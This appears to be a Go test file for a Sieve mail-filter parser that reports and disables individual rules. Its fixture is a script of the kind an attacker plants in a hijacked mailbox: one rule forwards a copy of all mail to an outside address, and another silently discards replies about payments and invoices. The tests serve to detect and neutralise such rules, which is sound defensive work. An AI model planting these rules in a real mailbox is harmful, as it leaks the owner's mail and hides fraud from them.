package sieve

import (
	"slices"
	"strings"
	"testing"
)

// A script of the kind webmail clients (Roundcube's managesieve plugin)
// write, with the two rules an attacker plants after taking a mailbox:
// a copy of everything to an outside address, and the replies of the
// people contacted during the fraud thrown away unseen.
const planted = `require ["fileinto", "copy", "imap4flags", "vacation"];
# rule:[archive]
if header :contains "list-id" "usrp-users" {
	fileinto "Lists/usrp";
	stop;
}
# rule:[sync]
redirect :copy "boite.relais@example.net";
/* rule:[clean] */
if anyof (header :contains "subject" ["RE: virement", "TR: facture"], address :is "from" "comptable@fournisseur.test") {
	addflag "\\Seen";
	discard;
	stop;
} elsif header :contains "subject" "urgent" {
	fileinto :flags "\\Seen" "Corbeille";
} else {
	keep;
}
vacation :days 7 text:
Je suis absent.
..Point final.
.
;
`

func TestActions(t *testing.T) {
	cmds, err := Parse(planted)
	if err != nil {
		t.Fatal(err)
	}
	acts := Actions(planted, cmds)
	want := []struct {
		cmd     string
		effects []Effect
		target  string
		when    string
	}{
		{"fileinto", []Effect{Move}, "", `header :contains "list-id" "usrp-users"`},
		{"redirect", []Effect{Forward}, "boite.relais@example.net", ""},
		{"addflag", []Effect{MarkRead}, "", `anyof (header :contains "subject" ["RE: virement", "TR: facture"], address :is "from" "comptable@fournisseur.test")`},
		{"discard", []Effect{Delete}, "", `anyof (`},
		{"fileinto", []Effect{Delete, MarkRead}, "", `not anyof`},
		{"vacation", []Effect{AutoReply}, "", ""},
	}
	if len(acts) != len(want) {
		t.Fatalf("got %d actions, want %d: %+v", len(acts), len(want), acts)
	}
	for i, w := range want {
		a := acts[i]
		if a.Index != i+1 || a.Command != w.cmd || !slices.Equal(a.Effects, w.effects) {
			t.Errorf("action %d: got %d %s %v, want %s %v", i+1, a.Index, a.Command, a.Effects, w.cmd, w.effects)
		}
		if w.target != "" && !slices.Contains(a.Targets, w.target) {
			t.Errorf("action %d: targets %v, want %s", i+1, a.Targets, w.target)
		}
		if !strings.HasPrefix(a.When, w.when) {
			t.Errorf("action %d: when %q, want prefix %q", i+1, a.When, w.when)
		}
	}
	if !acts[1].Copy || acts[1].Text != `redirect :copy "boite.relais@example.net";` {
		t.Errorf("redirect: %+v", acts[1])
	}
}

func TestDisableKeepsTheTextAndOnlyThatRule(t *testing.T) {
	out, err := Disable(planted, 2)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, `if false { redirect :copy "boite.relais@example.net"; }`) {
		t.Fatalf("redirect not wrapped:\n%s", out)
	}
	cmds, err := Parse(out)
	if err != nil {
		t.Fatalf("disabled script does not parse: %v", err)
	}
	acts := Actions(out, cmds)
	for _, a := range acts {
		if a.Disabled != (a.Index == 2) {
			t.Errorf("action %d %s: disabled=%v", a.Index, a.Command, a.Disabled)
		}
	}
	if _, err := Disable(out, 2); err == nil {
		t.Error("disabling twice: no error")
	}
	out2, err := Disable(out, 4)
	if err != nil || !strings.Contains(out2, "if false { discard; }") {
		t.Fatalf("discard: %v\n%s", err, out2)
	}
	if _, err := Disable(planted, 99); err == nil {
		t.Error("no such action: no error")
	}
}

func TestIncludes(t *testing.T) {
	cmds, err := Parse(`require ["include"]; include :personal "vacances"; if true { include "regles"; } include :global "spam";`)
	if err != nil {
		t.Fatal(err)
	}
	if got := Includes(cmds); len(got) != 2 || got[0] != "vacances" || got[1] != "regles" {
		t.Errorf("%q", got)
	}
}

func TestParseErrors(t *testing.T) {
	for _, s := range []string{
		`redirect "a@b.c"`,                 // no ';'
		`if header :is "a" "b" { discard;`, // no '}'
		`redirect ["a", ];`,                // bad list
		`if anyof (true, ) { keep; }`,      // bad test list
		`fileinto "x`,                      // unterminated
		"vacation text:\nabc\n",            // unterminated multi-line
		`/* comment`,                       // unterminated comment
		strings.Repeat("if true {", 40) + strings.Repeat("}", 40), // too deep
		"redirect \x01;",
	} {
		if _, err := Parse(s); err == nil {
			t.Errorf("%q: no error", s)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add(planted)
	f.Add(`require "fileinto"; if size :over 100K { fileinto "big"; }`)
	f.Add("notify :message \"x\" \"mailto:a@b.c\";")
	f.Fuzz(func(t *testing.T, s string) {
		cmds, err := Parse(s)
		if err != nil {
			return
		}
		acts := Actions(s, cmds)
		for _, a := range acts {
			if a.Disabled {
				continue
			}
			out, err := Disable(s, a.Index)
			if err != nil {
				t.Fatalf("disable %d: %v", a.Index, err)
			}
			c2, err := Parse(out)
			if err != nil {
				t.Fatalf("disabled script does not parse: %v\n%s", err, out)
			}
			if n := len(Actions(out, c2)); n != len(acts) {
				t.Fatalf("actions %d → %d after disabling %d", len(acts), n, a.Index)
			}
			break
		}
	})
}
